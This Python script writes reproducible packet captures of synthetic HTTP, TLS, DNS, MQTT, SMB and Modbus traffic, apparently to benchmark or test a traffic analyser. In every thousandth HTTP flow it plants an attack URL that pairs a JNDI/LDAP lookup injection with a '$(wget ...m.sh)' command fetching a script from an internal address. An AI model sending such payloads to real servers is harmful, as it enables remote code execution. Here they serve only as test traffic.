#!/usr/bin/env python3
"""Write a capture of generated flows: `traffic.py mix|small OUT FLOWS`.

mix    HTTP, TLS, DNS, MQTT, SMB and Modbus conversations of ordinary sizes, an attack in every thousand
small  one small HTTP request each, with its answer, on a connection of its own

The same arguments always give the same bytes. Checksums are zero: measure with --no-checksum."""
import random, struct, sys

class Writer:
    def __init__(self, path):
        self.f = open(path, 'wb')
        self.f.write(struct.pack('<IHHiIII', 0xa1b2c3d4, 2, 4, 0, 0, 262144, 1))
        self.us = 1_700_000_000_000_000

    def frame(self, ip):
        data = b'\x02\0\0\0\0\x01\x02\0\0\0\0\x02\x08\0' + ip
        self.us += 7
        self.f.write(struct.pack('<IIII', self.us // 10**6, self.us % 10**6, len(data), len(data)) + data)

def ip(src, dst, proto, body):
    return struct.pack('>BBHHHBBH4s4s', 0x45, 0, 20 + len(body), 0, 0, 64, proto, 0, src, dst) + body

class Tcp:
    """A connection; data in either direction is cut to segments and acknowledged."""
    def __init__(self, out, client, server, cport, sport):
        self.out, self.addr, self.port, self.seq = out, (client, server), (cport, sport), [1000, 5000]
        self.send(0, 0x02)
        self.seq[0] += 1
        self.send(1, 0x12)
        self.seq[1] += 1
        self.send(0, 0x10)

    def send(self, d, flags, data=b''):
        header = struct.pack('>HHIIBBHHH', self.port[d], self.port[1 - d], self.seq[d], self.seq[1 - d] if flags & 0x10 else 0,
                             0x50, flags, 64000, 0, 0)
        self.out.frame(ip(self.addr[d], self.addr[1 - d], 6, header + data))
        self.seq[d] = (self.seq[d] + len(data)) & 0xffffffff

    def data(self, d, payload):
        for i in range(0, len(payload), 1400):
            piece = payload[i:i + 1400]
            self.send(d, 0x18 if i + 1400 >= len(payload) else 0x10, piece)
            if i // 1400 % 2 or i + 1400 >= len(payload):
                self.send(1 - d, 0x10)

    def close(self):
        for d in (0, 1):
            self.send(d, 0x11)
            self.seq[d] += 1
        self.send(0, 0x10)

WORDS = 'status device sensor update config image video user login data report index main page list item'.split()

def text(rng, size):
    return ' '.join(rng.choice(WORDS) for _ in range(size // 6)).encode()[:size]

def http(out, rng, a, b, port, attack, small=False):
    t = Tcp(out, a, b, port, 80)
    path = '/' + '/'.join(rng.choice(WORDS) for _ in range(rng.randint(1, 4))) + f'?id={rng.randint(1, 10**6)}'
    if attack:
        path = '/?x=${jndi:ldap://10.9.8.7/a}&y=$(wget+http://10.9.8.7/m.sh)'
    head = f'GET {path} HTTP/1.1\r\nHost: {rng.choice(WORDS)}.example.com\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64)\r\n'
    t.data(0, (head + 'Accept: */*\r\nAccept-Language: en\r\nConnection: keep-alive\r\n\r\n').encode())
    body = text(rng, 120 if small else rng.choice((400, 3000, 12000, 40000)))
    t.data(1, f'HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nServer: nginx\r\nContent-Length: {len(body)}\r\n\r\n'.encode() + body)
    t.close()

def record(kind, body):
    return struct.pack('>BHH', kind, 0x0303, len(body)) + body

def extension(kind, body):
    return struct.pack('>HH', kind, len(body)) + body

def tls(out, rng, a, b, port, attack):
    t = Tcp(out, a, b, port, 443)
    name = f'{rng.choice(WORDS)}{rng.randint(1, 999)}.example.com'.encode()
    exts = extension(0, struct.pack('>HBH', len(name) + 3, 0, len(name)) + name) + extension(10, bytes.fromhex('0006001d00170018')) \
        + extension(11, b'\1\0') + extension(13, bytes.fromhex('000804030804040105030805')) + extension(43, bytes.fromhex('0403040303'))
    hello = struct.pack('>H', 0x0303) + rng.randbytes(32) + b'\x20' + rng.randbytes(32) + bytes.fromhex('0008130113021303c02b') + b'\1\0' \
        + struct.pack('>H', len(exts)) + exts
    t.data(0, record(22, b'\1' + len(hello).to_bytes(3, 'big') + hello))
    answer = struct.pack('>H', 0x0303) + rng.randbytes(32) + b'\x20' + rng.randbytes(32) + bytes.fromhex('130100') \
        + struct.pack('>H', 6) + extension(43, bytes.fromhex('0304'))
    t.data(1, record(22, b'\2' + len(answer).to_bytes(3, 'big') + answer) + record(20, b'\1') + record(23, rng.randbytes(1800)))
    t.data(0, record(20, b'\1') + record(23, rng.randbytes(90)))
    for _ in range(rng.randint(1, 4)):
        t.data(0, record(23, rng.randbytes(rng.randint(100, 700))))
        t.data(1, record(23, rng.randbytes(rng.choice((900, 8000, 16000)))))
    t.close()

def dns(out, rng, a, b, port, attack):
    name = b''.join(bytes([len(w)]) + w for w in (rng.choice(WORDS).encode(), str(rng.randint(1, 9999)).encode(), b'example', b'net')) + b'\0'
    query = struct.pack('>HHHHHH', rng.randint(0, 65535), 0x0100, 1, 0, 0, 0) + name + struct.pack('>HH', 1, 1)
    answer = query[:2] + struct.pack('>HHHHH', 0x8180, 1, 1, 0, 0) + query[12:] + struct.pack('>HHHIH4s', 0xc00c, 1, 1, 300, 4, rng.randbytes(4))
    for s, d, sp, dp, m in ((a, b, port, 53, query), (b, a, 53, port, answer)):
        out.frame(ip(s, d, 17, struct.pack('>HHHH', sp, dp, 8 + len(m), 0) + m))

def mqtt(out, rng, a, b, port, attack):
    def packet(kind, body):
        size, n = b'', len(body)
        while True:
            size += bytes([n % 128 | (0x80 if n > 127 else 0)])
            n //= 128
            if not n:
                return bytes([kind]) + size + body
    def string(s):
        return struct.pack('>H', len(s)) + s
    t = Tcp(out, a, b, port, 1883)
    t.data(0, packet(0x10, string(b'MQTT') + b'\4\2\0\x3c' + string(b'sensor-%d' % rng.randint(1, 9999))))
    t.data(1, b'\x20\2\0\0')
    for _ in range(rng.randint(2, 8)):
        t.data(0, packet(0x30, string(b'farm/%d/temperature' % rng.randint(1, 50)) + b'{"value": %d}' % rng.randint(0, 40)))
    t.data(0, b'\xe0\0')
    t.close()

def smb(out, rng, a, b, port, attack):
    def message(command, body, answer):
        head = b'\xfeSMB' + struct.pack('<HHIHHIIQIIQ16s', 64, 0, 0, command, 1, answer, 0, 1, 0, 0, 0, b'')
        return struct.pack('>I', len(head) + len(body)) + head + body
    t = Tcp(out, a, b, port, 445)
    t.data(0, message(0, struct.pack('<HHHHI16sQHH', 36, 2, 1, 0, 0, rng.randbytes(16), 0, 0x0202, 0x0210), 0))
    t.data(1, message(0, struct.pack('<HHHH16sIIIIQQHHI', 65, 1, 0x0210, 0, rng.randbytes(16), 7, 65536, 65536, 65536, 0, 0, 128, 0, 0), 1))
    path = '\\\\server\\share'.encode('utf-16-le')
    t.data(0, message(3, struct.pack('<HHHH', 9, 0, 72, len(path)) + path, 0))
    t.data(1, message(3, struct.pack('<HBBIII', 16, 1, 0, 0, 0, 0x1f01ff), 1))
    t.close()

def modbus(out, rng, a, b, port, attack):
    t = Tcp(out, a, b, port, 502)
    for i in range(rng.randint(3, 12)):
        t.data(0, struct.pack('>HHHBBHH', i, 0, 6, 1, 3, rng.randint(0, 900), 8))
        t.data(1, struct.pack('>HHHBBB', i, 0, 19, 1, 3, 16) + rng.randbytes(16))
    t.close()

def main():
    kind, path, flows = sys.argv[1], sys.argv[2], int(sys.argv[3])
    rng, out = random.Random(4), Writer(path)
    shares = [(http, 40), (tls, 30), (dns, 15), (mqtt, 6), (smb, 5), (modbus, 4)]
    makers, weights = zip(*shares)
    for i in range(flows):
        a, b = struct.pack('>BBBB', 10, 1 + i // 60000, rng.randint(0, 255), 1 + i % 250), struct.pack('>BBBB', 203, 0, 113, rng.randint(1, 250))
        port = 1024 + i * 7 % 60000
        if kind == 'small':
            http(out, rng, a, b, port, False, small=True)
        elif i % 1000 == 500:
            http(out, rng, a, b, port, True)
        else:
            rng.choices(makers, weights)[0](out, rng, a, b, port, False)

if __name__ == '__main__':
    main()
